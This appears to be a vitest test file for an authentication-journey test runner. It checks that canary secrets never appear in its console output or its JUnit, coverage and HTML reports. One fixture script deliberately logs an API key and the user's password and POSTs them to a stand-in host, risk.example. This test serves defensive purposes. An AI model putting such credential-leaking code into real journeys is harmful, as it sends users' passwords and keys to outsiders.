import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { exportOf, projectFolder, scripted, testedIn } from '../support/walk-project.ts'

// Canaries in everything that is secret. None of them may appear in anything that a run prints or writes.

const canaries = {
  environment: 'Canary-Environment-71',
  written: 'Canary-Written-72',
  answer: 'Canary-Answer-73',
  setting: 'Canary-Setting-74',
}

const leaky = exportOf(
  'Leaky',
  {
    Ask: { type: 'PasswordCollectorNode', to: { outcome: 'Leak' } },
    Leak: scripted('leak', { done: 'failure' }),
  },
  {
    leak: `var key = systemEnv.getProperty('esv.api.key')
      logger.error('the key is ' + key + ' and the password ' + nodeState.get('password'))
      nodeState.putShared('seen', 'key ' + key)
      httpClient.send('https://risk.example/?token=' + key, { method: 'POST', body: { password: nodeState.get('password') } }).get()
      outcome = 'done'`,
  },
)

const mailing = exportOf('Mailing', {
  Ask: { type: 'PasswordCollectorNode', to: { outcome: 'Check' } },
  Check: {
    type: 'LdapDecisionNode',
    config: { primaryServers: ['directory.example.com:389'], userBindPassword: canaries.setting },
    to: { TRUE: 'success', FALSE: 'failure', LOCKED: 'failure', CANCELLED: 'failure', EXPIRED: 'failure' },
  },
})

test('prints and writes no password, no secret of the environment and no secret setting', async () => {
  const folder = projectFolder({
    'Leaky.json': leaky,
    'Mailing.json': mailing,
    'leaky.walk.yaml': `
journey: Leaky
people: { alex: { mail: alex@example.com } }
esv: { api.key: "\${secret:API_KEY}", other.key: "\${made}" }
walks:
  - it: leaks
    steps: [{ answer: { PasswordCallback: ${canaries.answer} } }]
    ends: success
    path: [Ask → outcome, Success]
  - it: leaks a written password
    steps: [{ answer: { PasswordCallback: "\${secret:WRITTEN}" } }]
    ends: { failure: "\${secret:WRITTEN}" }
  - it: leaks a setting
    journey: Mailing
    steps: [{ answer: { PasswordCallback: x } }]
    ends: success
`,
  })
  const reports = ['junit.xml', 'lcov.info', 'coverage.json'].map((name) => join(folder, name))
  const [junit = '', lcov = '', json = ''] = reports
  const html = join(folder, 'html')
  const options = ['--junit', junit, '--lcov', lcov, '--coverage-json', json, '--html', html]
  const environment = { API_KEY: canaries.environment, WRITTEN: canaries.written, GITHUB_ACTIONS: 'true' }
  const { status, output } = await testedIn(folder, options, environment)
  expect(status, output).toBe(1)
  expect(output).toContain('3 failed')
  const written = [...reports, ...globSync('**/*.*', { cwd: html }).map((name) => join(html, name))]
  expect(written.length).toBeGreaterThan(4)
  const texts = [output, ...written.map((file) => readFileSync(file, 'utf8'))]
  for (const [what, canary] of Object.entries(canaries)) {
    for (const [at, text] of texts.entries())
      expect(text.includes(canary), `${what} in text ${at}`).toBe(false)
  }
  expect(texts.some((text) => text.includes('Made-Up-'))).toBe(false)
})
